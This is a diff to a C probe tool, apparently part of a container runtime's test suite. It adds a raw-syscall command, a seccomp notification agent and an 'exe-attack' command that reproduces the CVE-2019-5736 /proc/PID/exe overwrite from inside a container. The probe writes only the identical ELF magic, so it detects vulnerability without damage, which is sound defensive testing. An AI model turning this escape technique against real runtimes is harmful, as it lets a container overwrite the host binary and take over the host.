@@ -4,6 +4,11 @@
  * text on stdout, exit 0; on failure a message on stderr and a non-zero status.
  */
 #include <dirent.h>
+#include <linux/seccomp.h>
+#include <poll.h>
+#include <sys/ioctl.h>
+#include <sys/socket.h>
+#include <sys/un.h>
 #include <errno.h>
 #include <fcntl.h>
 #include <limits.h>
@@ -409,6 +414,151 @@ static int cmd_syscall(int argc, char **argv)
 	return 0;
 }
 
+/* syscall-nr NR [ARG…]: a raw syscall with numeric arguments; prints `ok` or the errno's name. */
+static int cmd_syscall_nr(int argc, char **argv)
+{
+	if (argc < 1 || argc > 7) {
+		fprintf(stderr, "skiff-probe: syscall-nr NR [ARG...]\n");
+		return 2;
+	}
+	long a[6] = { 0 };
+	for (int i = 1; i < argc; i++)
+		a[i - 1] = (long)strtoull(argv[i], NULL, 0);
+	long rc = syscall(strtol(argv[0], NULL, 0), a[0], a[1], a[2], a[3], a[4], a[5]);
+	printf("%s\n", rc < 0 ? errname(errno) : "ok");
+	return 0;
+}
+
+/* The pid of another process whose comm is `name`, or 0. */
+static pid_t find_comm(const char *name)
+{
+	DIR *d = opendir("/proc");
+	if (!d)
+		return 0;
+	pid_t found = 0;
+	for (struct dirent *e; !found && (e = readdir(d));) {
+		pid_t pid = (pid_t)atoi(e->d_name);
+		if (pid <= 0 || pid == getpid())
+			continue;
+		char path[64], comm[64] = "";
+		snprintf(path, sizeof path, "/proc/%d/comm", pid);
+		FILE *f = fopen(path, "re");
+		if (!f)
+			continue;
+		if (fgets(comm, sizeof comm, f) && strncmp(comm, name, strlen(name)) == 0 && comm[strlen(name)] == '\n')
+			found = pid;
+		fclose(f);
+	}
+	closedir(d);
+	return found;
+}
+
+/*
+ * exe-attack [SECONDS]: CVE-2019-5736 from inside. Waits for a skiff-shim process in this pid
+ * namespace (an init still in its set-up), opens its /proc/PID/exe for writing, keeps an O_PATH fd to
+ * it and, once that process has exec'd (ETXTBSY gone), reopens it for writing and writes the ELF
+ * magic at offset 0 (the same bytes, so a vulnerable runtime is caught without being destroyed).
+ */
+static int cmd_exe_attack(int argc, char **argv)
+{
+	int seconds = argc > 0 ? atoi(argv[0]) : 10;
+	struct timespec tick = { 0, 10 * 1000 * 1000 };
+	pid_t pid = 0;
+	for (int i = 0; i < seconds * 100 && !(pid = find_comm("skiff-shim")); i++)
+		nanosleep(&tick, NULL);
+	if (!pid) {
+		printf("no skiff-shim found\n");
+		return 1;
+	}
+	char exe[64];
+	snprintf(exe, sizeof exe, "/proc/%d/exe", pid);
+	int w = open(exe, O_WRONLY | O_CLOEXEC);
+	printf("open-write: %s\n", w < 0 ? errname(errno) : "ok");
+	int fd = open(exe, O_PATH | O_CLOEXEC);
+	if (fd < 0) {
+		printf("open-path: %s\n", errname(errno));
+		return 0;
+	}
+	fflush(stdout);
+	char self[64];
+	snprintf(self, sizeof self, "/proc/self/fd/%d", fd);
+	for (int i = 0; i < seconds * 100; i++) {
+		if (w < 0)
+			w = open(self, O_WRONLY | O_CLOEXEC);
+		if (w < 0 && errno == ETXTBSY) {
+			nanosleep(&tick, NULL);
+			continue;
+		}
+		if (w < 0) {
+			printf("reopen-write: %s\n", errname(errno));
+			return 0;
+		}
+		ssize_t n = pwrite(w, "\177ELF", 4, 0);
+		printf("%s\n", n == 4 ? "written" : n < 0 ? errname(errno) : "short write");
+		return 0;
+	}
+	printf("reopen-write: timeout\n");
+	return 0;
+}
+
+/*
+ * seccomp-agent SOCKET ERRNO: a seccomp agent for SCMP_ACT_NOTIFY tests, run on the host. Listens on
+ * SOCKET, takes one runtime message (the container process state JSON + the listener fd in
+ * SCM_RIGHTS) and prints the JSON on one line; then answers every notification with -ERRNO, printing
+ * `notified nr=N pid=P`, until the container's filter is gone.
+ */
+static int cmd_seccomp_agent(int argc, char **argv)
+{
+	if (argc != 2) {
+		fprintf(stderr, "skiff-probe: seccomp-agent SOCKET ERRNO\n");
+		return 2;
+	}
+	int answer = atoi(argv[1]);
+	int srv = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
+	struct sockaddr_un addr = { .sun_family = AF_UNIX };
+	snprintf(addr.sun_path, sizeof addr.sun_path, "%s", argv[0]);
+	if (srv < 0 || bind(srv, (struct sockaddr *)&addr, sizeof addr) < 0 || listen(srv, 1) < 0)
+		return die("listen", argv[0]);
+	int conn = accept4(srv, NULL, NULL, SOCK_CLOEXEC);
+	if (conn < 0)
+		return die("accept", argv[0]);
+	char json[16384];
+	char control[CMSG_SPACE(sizeof(int))];
+	struct iovec iov = { .iov_base = json, .iov_len = sizeof json - 1 };
+	struct msghdr msg = { .msg_iov = &iov, .msg_iovlen = 1, .msg_control = control, .msg_controllen = sizeof control };
+	ssize_t n = recvmsg(conn, &msg, MSG_CMSG_CLOEXEC);
+	if (n < 0)
+		return die("recvmsg", argv[0]);
+	json[n] = '\0';
+	struct cmsghdr *cmsg = CMSG_FIRSTHDR(&msg);
+	if (!cmsg || cmsg->cmsg_type != SCM_RIGHTS) {
+		fprintf(stderr, "skiff-probe: no fd in the message: %s\n", json);
+		return 1;
+	}
+	int fd;
+	memcpy(&fd, CMSG_DATA(cmsg), sizeof fd);
+	printf("%s\n", json);
+	fflush(stdout);
+	for (;;) {
+		struct pollfd pfd = { .fd = fd, .events = POLLIN };
+		if (poll(&pfd, 1, 20000) <= 0 || (pfd.revents & (POLLHUP | POLLERR)) || !(pfd.revents & POLLIN))
+			break;
+		struct seccomp_notif req;
+		memset(&req, 0, sizeof req);
+		if (ioctl(fd, SECCOMP_IOCTL_NOTIF_RECV, &req) < 0) {
+			if (errno == EINTR || errno == ENOENT)
+				continue;
+			return die("ioctl", "SECCOMP_IOCTL_NOTIF_RECV");
+		}
+		struct seccomp_notif_resp resp = { .id = req.id, .val = 0, .error = -answer, .flags = 0 };
+		printf("notified nr=%d pid=%u\n", req.data.nr, req.pid);
+		fflush(stdout);
+		if (ioctl(fd, SECCOMP_IOCTL_NOTIF_SEND, &resp) < 0 && errno != ENOENT)
+			return die("ioctl", "SECCOMP_IOCTL_NOTIF_SEND");
+	}
+	return 0;
+}
+
 static int cmd_mountinfo(int argc, char **argv)
 {
 	(void)argc;
@@ -429,6 +579,8 @@ static const struct {
 	{ "ls", cmd_ls },         { "sleep", cmd_sleep },       { "exit", cmd_exit },
 	{ "env", cmd_env },       { "fds", cmd_fds },           { "caps", cmd_caps },
 	{ "syscall", cmd_syscall }, { "mountinfo", cmd_mountinfo },
+	{ "syscall-nr", cmd_syscall_nr }, { "exe-attack", cmd_exe_attack },
+	{ "seccomp-agent", cmd_seccomp_agent },
 };
 
 int main(int argc, char **argv)
